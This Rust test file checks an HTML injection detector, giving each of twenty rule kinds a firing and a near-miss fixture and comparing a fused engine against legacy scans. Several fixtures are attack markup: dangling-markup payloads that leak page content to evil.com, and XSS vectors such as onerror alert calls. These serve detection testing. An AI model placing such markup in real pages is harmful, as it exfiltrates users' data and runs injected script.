//! Per-[`ViolationKind`] fixture matrix and fused-vs-legacy equivalence.
//!
//! Every one of the twenty kinds gets a positive fixture (a page that must
//! trigger exactly that rule) and a negative fixture (a near-miss that must
//! not). On top of the matrix, the fused dispatch engine is checked to be
//! *report-identical* to the pre-fusion per-rule scans
//! (`hv_fuzz::reference::checkers`) — on every fixture, on the edges of
//! the element pass's skip, and on property-generated HTML soup.

use html_violations::hv_core::CheckContext;
use html_violations::hv_fuzz::reference::checkers as legacy;
use html_violations::prelude::*;
use html_violations::spec_html::{tags, Atom};
use proptest::prelude::*;

/// (kind, fires-on, must-not-fire-on). Negatives are near-misses for the
/// same rule, not blank pages.
const MATRIX: &[(ViolationKind, &str, &str)] = &[
    (
        ViolationKind::DE1,
        "<body><form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n<p>My little secret</p>",
        "<body><textarea>text</textarea><p>after</p></body>",
    ),
    (
        ViolationKind::DE2,
        "<body><select><option>a\n<p>secret</p>",
        "<body><select><option>a</option></select><p>x</p></body>",
    ),
    (
        ViolationKind::DE3_1,
        "<body><img src='http://evil.com/?content=\n<p>secret</p>'></body>",
        "<body><a href=\"/a\n/b\">newline but no lt</a></body>",
    ),
    (
        ViolationKind::DE3_2,
        "<body><input value=\"<SCRIPT src=x>\"></body>",
        "<body><input value=\"script\"></body>",
    ),
    (
        ViolationKind::DE3_3,
        "<body><a href=\"https://evil.com\">click</a><base target='\n<p>secret</p>' ></body>",
        "<body><a href=\"/x\" target=\"_blank\">l</a></body>",
    ),
    (
        ViolationKind::DE4,
        "<body><form action=\"https://evil.com\"><form action=\"/real\"><input name=q></form></body>",
        "<body><form action=/a></form><form action=/b></form></body>",
    ),
    (
        ViolationKind::DM1,
        "<html><head>t</head>\n<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=//x\">\n<body></body></html>",
        "<!DOCTYPE html><head><meta http-equiv=\"refresh\" content=\"0\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_1,
        "<!DOCTYPE html><head><title>t</title></head><body><base href=\"https://evil.com/\"></body>",
        "<!DOCTYPE html><head><base href=\"/b/\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_2,
        "<!DOCTYPE html><head><base href=\"/a/\"><base href=\"/b/\"><title>t</title></head><body></body>",
        "<!DOCTYPE html><head><base href=\"/a/\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_3,
        "<!DOCTYPE html><head><link rel=\"stylesheet\" href=\"s.css\"><base href=\"/b/\"></head><body></body>",
        "<!DOCTYPE html><head><base href=\"/b/\"><link rel=\"stylesheet\" href=\"s.css\"></head><body></body>",
    ),
    (
        ViolationKind::DM3,
        "<div id=\"injection\" onclick=\"evil()\" onclick=\"benign()\">x</div>",
        "<img src=\"p.jpg\" alt=\"a\" title=\"b\">",
    ),
    (
        ViolationKind::HF1,
        "<!DOCTYPE html><head><div class=modal>x</div><meta charset=utf-8></head><body></body>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
    ),
    (
        ViolationKind::HF2,
        "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">content",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
    ),
    (
        ViolationKind::HF3,
        "<!DOCTYPE html><head></head><body class=a><p>x</p><body onload=evil()></body>",
        "<!DOCTYPE html><head></head><body class=a><p>x</p></body>",
    ),
    (
        ViolationKind::HF4,
        "<!DOCTYPE html><html><head><title>t</title></head><body><table><tr><strong>ad</strong></tr><tr><td>x</td></tr></table></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><table><tr><td>x</td></tr></table></body></html>",
    ),
    (
        ViolationKind::HF5_1,
        "<!DOCTYPE html><html><head><title>t</title></head><body><path d=\"M0 0L10 10\"></path></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"></path></svg></body></html>",
    ),
    (
        ViolationKind::HF5_2,
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg><rect width=1></rect><div>broke</div></svg></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg><rect width=1></rect></svg></body></html>",
    ),
    (
        ViolationKind::HF5_3,
        "<!DOCTYPE html><html><head><title>t</title></head><body><math><mrow><img src=x></mrow></math></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><math><mrow>x</mrow></math></body></html>",
    ),
    (
        ViolationKind::FB1,
        "<img/src=\"x\"/onerror=\"alert('XSS')\">",
        "<input name=\"q\" type=\"text\" />",
    ),
    (
        ViolationKind::FB2,
        "<img src=\"users/injection\"onerror=\"alert('XSS')\">",
        "<img src=\"a.png\" alt=\"a\" title=\"b\">",
    ),
];

#[test]
fn matrix_covers_every_kind_once() {
    let mut kinds: Vec<_> = MATRIX.iter().map(|(k, _, _)| *k).collect();
    kinds.sort_unstable();
    kinds.dedup();
    assert_eq!(kinds.len(), ViolationKind::ALL.len());
}

#[test]
fn every_kind_fires_on_its_positive_fixture() {
    let mut battery = Battery::full();
    for (kind, positive, _) in MATRIX {
        let r = battery.run_str(positive);
        assert!(r.has(*kind), "{kind} missing on positive fixture: {:?}", r.findings);
    }
}

#[test]
fn no_kind_fires_on_its_negative_fixture() {
    let mut battery = Battery::full();
    for (kind, _, negative) in MATRIX {
        let r = battery.run_str(negative);
        assert!(!r.has(*kind), "{kind} fired on negative fixture: {:?}", r.findings);
    }
}

/// Pages outside the matrix that fire several rules at once: duplicate
/// attributes on two elements, a stray solidus, and unseparated
/// attributes.
const MULTI_FINDING: &[&str] =
    &["<img src=a src=b><div id=x id=y><p/ class=c><a href=\"u\"title=t>"];

/// The fused engine's report — findings *and* mitigation flags — must be
/// identical to the pre-fusion per-rule scans on every fixture.
#[test]
fn fused_engine_is_report_identical_to_legacy_on_fixtures() {
    let mut battery = Battery::full();
    let matrix = MATRIX.iter().flat_map(|(_, positive, negative)| [*positive, *negative]);
    for page in matrix.chain(MULTI_FINDING.iter().copied()) {
        let cx = CheckContext::new(page);
        let fused = battery.run(&cx);
        let old = legacy::run(&cx);
        assert_eq!(fused.findings, old.findings, "fixture: {page}");
        assert_eq!(fused.mitigations, old.mitigations, "fixture: {page}");
    }
}

/// The same report, mitigation flags and math usage from the fused engine
/// and from the pre-fusion scans.
fn assert_matches_legacy(battery: &mut Battery, cx: &CheckContext<'_>, what: &str) {
    let fused = battery.run(cx);
    let old = legacy::run(cx);
    assert_eq!(fused.findings, old.findings, "{what}");
    assert_eq!(fused.mitigations, old.mitigations, "{what}");
    assert_eq!(fused.uses_math, old.uses_math, "{what}");
}

/// Pages at the edges of the element pass's skip, which trusts the start
/// tags to name every `meta`, `base`, `math` and foreign-only element of
/// the tree: a tag the tree builder renames (`<image>` becomes `img`),
/// declared names the tree never holds (content a frameset leaves out), a
/// foreign-only name outside SVG, and `base` inside SVG (a `meta` there
/// breaks out of the SVG, so no page builds an SVG `meta`).
const SKIP_EDGES: &[&str] = &[
    "<body><image src=x><p>after",
    "<svg><image href=x></svg><base href=y>",
    "<html><head></head><frameset><math></math><base href=x><meta http-equiv=a></frameset>",
    "<body><math><mi>x</mi></math><base href=x><meta http-equiv=a><frameset><frame>",
    "<head></head><frameset></frameset><math><base href=x><meta http-equiv=y>",
    "<body><clippath></clippath><p><clippath>",
    "<body><svg><clippath><path></path></clippath></svg>",
    "<body><svg><base href=x><meta http-equiv=y></svg><base href=z>",
    "<body><svg><meta http-equiv=y><foreignObject><meta http-equiv=z><base>",
];

/// Fragment bodies for the `div`, `svg` and `math` contexts.
const FRAGMENT_EDGES: &[&str] = &[
    "<math><mi>x</mi></math><base href=x><meta http-equiv=a><path>",
    "<mi>x</mi><p><base><img src=y><base href=z>",
    "<clippath><meta http-equiv=r><div><math>",
    "<a href=x>l</a><base href=y><mtext><svg><base>",
];

#[test]
fn element_pass_skip_edges_match_legacy() {
    let mut battery = Battery::full();
    for page in SKIP_EDGES {
        assert_matches_legacy(&mut battery, &CheckContext::new(page), page);
    }
    for context in ["div", "svg", "math"] {
        for page in FRAGMENT_EDGES {
            let cx = CheckContext::fragment(page, context);
            assert_matches_legacy(&mut battery, &cx, &format!("{page} in <{context}>"));
        }
    }
}

/// Names the tree builder gives elements that no start tag of that name
/// asked for: implied elements and `img` for `<image>`. Re-created
/// formatting elements copy an earlier tag's name, and inside SVG an
/// element takes the camelCase spelling of its tag's name.
const BUILT_NAMES: &[&str] = &["html", "head", "body", "tbody", "tr", "colgroup", "p", "br", "img"];

/// Whether `name` is the camelCase SVG spelling of a lowercase tag name.
fn svg_spelling(name: &str) -> bool {
    tags::svg_tag_fixup(&name.to_ascii_lowercase()) == Some(name)
}

/// The names the battery declares (the DOM rules' report names and
/// `math`) are never built, so the page's tag names cover them.
#[test]
fn built_names_are_never_declared() {
    let declared = |name: &str| {
        let atom = Atom::from_name(name);
        name == "math"
            || html_violations::hv_core::checkers::all_checks()
                .iter()
                .any(|c| c.report_names().contains(&atom))
    };
    for name in BUILT_NAMES {
        assert!(!declared(name), "{name}");
    }
    for name in html_violations::spec_html::atoms::STATIC_ATOMS {
        assert!(!(svg_spelling(name) && declared(name)), "{name}");
    }
}

/// Every element of the tree is named by one of the page's start tags,
/// unless the tree builder made it up ([`BUILT_NAMES`], SVG spellings).
fn assert_tree_names_are_tagged(cx: &CheckContext<'_>, what: &str) {
    let dom = &cx.parse.dom;
    for id in dom.all_elements() {
        let name = &dom.element(id).expect("an element").name;
        let tagged = name.static_id().is_none() || cx.tag_names().contains(name);
        assert!(
            tagged || BUILT_NAMES.contains(&name.as_str()) || svg_spelling(name),
            "<{name}> has no start tag in {what}"
        );
    }
}

#[test]
fn tree_names_are_tagged_on_fixtures() {
    let matrix = MATRIX.iter().flat_map(|(_, positive, negative)| [*positive, *negative]);
    for page in matrix.chain(SKIP_EDGES.iter().copied()) {
        assert_tree_names_are_tagged(&CheckContext::new(page), page);
    }
    for page in FRAGMENT_EDGES {
        for context in ["div", "svg", "math"] {
            assert_tree_names_are_tagged(&CheckContext::fragment(page, context), page);
        }
    }
}

/// HTML-ish soup: same generator shape as tests/properties.rs, biased
/// toward the constructs the rules inspect.
fn html_soup() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        Just("<".to_owned()),
        Just(">".to_owned()),
        Just("\n".to_owned()),
        Just("\"".to_owned()),
        Just("'".to_owned()),
        Just("<!DOCTYPE html>".to_owned()),
        Just("<head>".to_owned()),
        Just("</head>".to_owned()),
        Just("<body onload=x>".to_owned()),
        Just("<base href=/b>".to_owned()),
        Just("<meta http-equiv=refresh content=0>".to_owned()),
        Just("<a href=".to_owned()),
        Just("<img src=x ".to_owned()),
        Just("src=y".to_owned()),
        Just("target='".to_owned()),
        Just("<script".to_owned()),
        Just("<form>".to_owned()),
        Just("<table><tr>".to_owned()),
        Just("<td>".to_owned()),
        Just("<select><option>".to_owned()),
        Just("<textarea>".to_owned()),
        Just("<svg>".to_owned()),
        Just("<math><mtext>".to_owned()),
        Just("<path>".to_owned()),
        Just("<image>".to_owned()),
        Just("<b><i>".to_owned()),
        Just("</p>".to_owned()),
        Just("<frameset>".to_owned()),
        Just("<div".to_owned()),
        Just("/".to_owned()),
        "[a-z =]{0,10}".prop_map(|s| s),
    ];
    proptest::collection::vec(atom, 0..48).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// Equivalence under fire: arbitrary documents produce the same report
    /// from the fused pass and the twenty independent scans.
    #[test]
    fn fused_engine_matches_legacy_on_soup(input in html_soup()) {
        let cx = CheckContext::new(&input);
        let fused = Battery::full().run(&cx);
        let old = legacy::run(&cx);
        prop_assert_eq!(&fused.findings, &old.findings);
        prop_assert_eq!(fused.mitigations, old.mitigations);
        prop_assert_eq!(fused.uses_math, old.uses_math);
        assert_tree_names_are_tagged(&cx, &input);
    }
}
